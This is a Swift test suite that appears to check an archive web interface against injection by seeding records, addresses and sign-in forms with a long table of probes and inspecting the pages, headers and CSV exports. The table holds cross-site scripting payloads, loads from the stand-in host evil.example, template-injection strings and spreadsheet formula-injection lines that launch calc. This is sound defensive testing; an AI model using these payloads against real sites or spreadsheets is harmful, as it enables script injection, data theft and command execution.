import Archiving
import HTTPTypes
import CatalogueStore
import SohoaTesting
import Testing

@testable import WebInterface

/// Texts that are to become scripts, through whatever a paper, its file or an address says.
@Suite struct ScriptProbes {
    static let table: [String] = [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script>",
        "</script><script>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img/src=x/onerror=alert(1)>", "<img src=\"x\" onerror=\"alert(1)\">",
        "<svg/onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>", "<svg><animate/onbegin=alert(1)>",
        "<body/onload=x()>",
        "<iframe/src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
        "<object/data=data:text/html;base64,PHNjcmlwdD4=>", "<embed/src=//evil.example>",
        "<link/rel=stylesheet/href=//evil.example/x.css>", "<style>@import'//evil.example'</style>",
        "<base/href=//evil.example/>", "<meta/http-equiv=refresh/content=0;url=//evil.example>",
        "<form/action=//evil.example><input/type=submit>", "<input/autofocus/onfocus=alert(1)>",
        "<details/open/ontoggle=alert(1)>", "<video><source/onerror=alert(1)></video>",
        "<audio/src=x/onerror=alert(1)>", "<marquee/onstart=alert(1)>", "<math><mi/xlink:href=x>",
        "<a/href=javascript:alert(1)>x</a>", "<a href=\"jAvAsCrIpT:alert(1)\">x</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<textarea/onfocus=x/autofocus>",
        "<select/onfocus=alert(1)/autofocus>", "<button/formaction=javascript:alert(1)>",
        "<template><script>alert(1)</script></template>",
        "<noscript><p/title='</noscript><img/src=x>'>",
        "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "\"><script>alert(1)</script>",
        "'><script>alert(1)</script>", "\" autofocus onfocus=\"alert(1)\" x=\"",
        "\"/onclick=alert(1)//",
        "--><script>alert(1)</script><!--", "]]><script>alert(1)</script>",
        "<!--<img/src=--><img/src=x>",
        "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
        "</option></select><script>alert(1)</script>", "</mark><script>alert(1)</script><mark>",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)", "&#x3c;script&#x3e;",
        "\u{FF1C}script\u{FF1E}alert(1)\u{FF1C}/script\u{FF1E}", "<\u{0}script>alert(1)</script>",
        "<script\u{C}>alert(1)</script>", "<\u{200B}script>alert(1)</script>",
        "javascript:alert(1)",
        "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "<?xml version=\"1.0\"?><!DOCTYPE x>",
        "=HYPERLINK(\"http://evil.example\",\"x\")", "+cmd|'/c calc'!A0", "-2+3+cmd|'/c calc'!A0",
        "@SUM(1+1)*cmd|'/c calc'!A0", "\u{FF1D}1+1", "<x onpointerenter=alert(1)>", "<b>đậm</b>",
        "\u{202E}<script>alert(1)</script>",
    ]

    @Test func thereAreAsManyAsWasPromised() {
        #expect(Self.table.count >= 60 && Set(Self.table).count == Self.table.count)
    }

    @Test(arguments: [
        "<script>alert(1)</script>", "<p onclick=\"x\">", "<p style=\"x\">",
        "<a href=\"javascript:x\">",
        "<a href=\"//x\">", "<img src=x>", "<iframe>", "<p", "<a href='/x'>", "<form action=\"x\">",
    ])
    func theCheckFindsWhatIsWrong(markup: String) {
        #expect(!MarkupCheck.faults(in: "<p>a</p>\(markup)").isEmpty)
    }

    @Test func nothingThatAPaperSaysIsMarkup() async throws {
        let tester = try SiteTester(demandsAccounts: true)
        try tester.addAccount("an", .administrator)
        for (index, payload) in Self.table.enumerated() {
            let words = payload.split(separator: " ").joined(separator: "\u{A0}")
            try tester.add(
                SampleDocument.make(
                    ["\(words) đô thị \(words)"], number: payload, kind: payload,
                    issuer: payload, title: payload, file: payload,
                    tasks: [SampleDocument.task("1", payload, lead: [payload], due: ["2026-01-02"])]
                ),
                file: index + 1)
            try tester.archive.catalogue.audit(
                .download, by: payload, document: 1, detail: payload)
            _ = try tester.archive.catalogue.addToken(
                label: payload, digest: "\(index)", owner: "an", scopes: [.read])
            try tester.archive.catalogue.save(
                SavedSearch(owner: "an", name: payload, view: .documents, query: payload))
        }
        let session = try tester.session(of: "an")
        let views = Routes(site: tester.site).router.routes.filter { $0.method == .get }.map(\.path)
        for view in views where !view.contains("/assets/") {
            // A number in the address is that of each of the documents.
            let paths =
                view.contains(":")
                ? Self.table.indices.map { view.replacing(#/:[a-z0-9]+/#, with: "\($0 + 1)") }
                : [view]
                    + ["page=2", "page=3", "q=do+thi", "q=do+thi&page=2"].map { "\(view)?\($0)" }
            for path in paths { try await Self.look(at: path, of: tester, session) }
        }
        try await Self.readTables(of: tester, session)
    }

    @Test func nothingThatAnAddressSaysIsMarkup() async throws {
        let tester = try SiteTester(demandsAccounts: true)
        try tester.addAccount("an", .administrator)
        try tester.add(SampleDocument.make(["Xây dựng đô thị"]), file: 1)
        let session = try tester.session(of: "an")
        let views = InjectionProbes.views(of: tester.site).filter {
            $0.split(separator: ".").count == 1
        }
        let parameters = ["kind", "who", "name", "done", "sort", "back", "status", "issuer"]
        for (index, payload) in Self.table.enumerated() {
            let value = SiteAddress.encoded(payload)
            for parameter in ["q", parameters[index % parameters.count]] {
                for view in views {
                    try await Self.look(at: "\(view)?\(parameter)=\(value)", of: tester, session)
                }
            }
            try await Self.look(at: "/nothing/\(value)", of: tester, session)
            try await Self.look(at: "/sign-in?back=\(value)", of: tester, [:])
            try await Self.lookAtFailedSignIn(value, tester)
        }
    }

    /// Looks at a page: no markup but ours, and the headers that would stop it if there were.
    private static func look(
        at path: String, of tester: borrowing SiteTester, _ headers: [String: String]
    ) async throws {
        let answer = try await tester.answer(.get, path, headers: headers)
        #expect(answer.status < 500, "\(path): \(answer.status)")
        let policy = try #require(answer["Content-Security-Policy"])
        #expect(policy.contains("default-src 'none'") && !policy.contains("unsafe-"))
        #expect(answer["X-Content-Type-Options"] == "nosniff")
        let type = answer["Content-Type"] ?? ""
        #expect(type.hasPrefix("text/html") || !type.contains("/xml"), "\(path)")
        guard type.hasPrefix("text/html") else { return }
        #expect(MarkupCheck.faults(in: answer.text) == [], "\(path)")
    }

    private static func lookAtFailedSignIn(
        _ value: String, _ tester: borrowing SiteTester
    ) async throws {
        let failed = try await tester.answer(
            .post, "/sign-in",
            headers: [
                "Sec-Fetch-Site": "same-origin",
                "Content-Type": "application/x-www-form-urlencoded",
            ], body: "name=\(value)&password=x&back=\(value)")
        #expect(MarkupCheck.faults(in: failed.text) == [])
    }

    /// Tables for programs: JSON that no browser takes for a page, CSV without formulas.
    private static func readTables(
        of tester: borrowing SiteTester, _ session: [String: String]
    ) async throws {
        for route in Routes(site: tester.site).router.routes
        where route.method == .get && !route.path.contains(where: { ":{".contains($0) }) {
            let answer = try await tester.answer(.get, route.path, headers: session)
            if route.path.hasSuffix(".json") {
                let type = try #require(answer["Content-Type"], "\(route.path)")
                #expect(type.hasPrefix("application/") && type.contains("json"), "\(route.path)")
            }
            guard route.path.hasSuffix(".csv") else { continue }
            #expect(answer["Content-Disposition"]?.hasPrefix("attachment;") == true)
            for cell in CSVCells(answer.text).cells {
                let isNumber = Double(cell) != nil
                #expect(isNumber || !"=+-@\t\r\u{FF1D}".contains(cell.first ?? "x"), "\(cell)")
            }
        }
    }
}
